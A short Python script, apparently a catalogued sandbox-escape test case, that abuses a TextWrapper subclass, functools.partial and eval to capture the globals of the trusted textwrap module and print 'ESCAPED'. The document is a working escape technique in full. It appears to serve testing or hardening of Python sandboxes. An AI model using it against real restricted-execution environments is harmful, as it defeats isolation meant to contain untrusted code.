# technique: TextWrapper.wrap calls a method of the subclass: a C callable
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import textwrap
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))


class Wrapper(textwrap.TextWrapper):
    _munge_whitespace = staticmethod(peek)


try:
    Wrapper().wrap('x')
except (TypeError, AttributeError):
    pass
if kept[0]['__name__'] == 'textwrap':
    print('ESCAPED globals of textwrap')
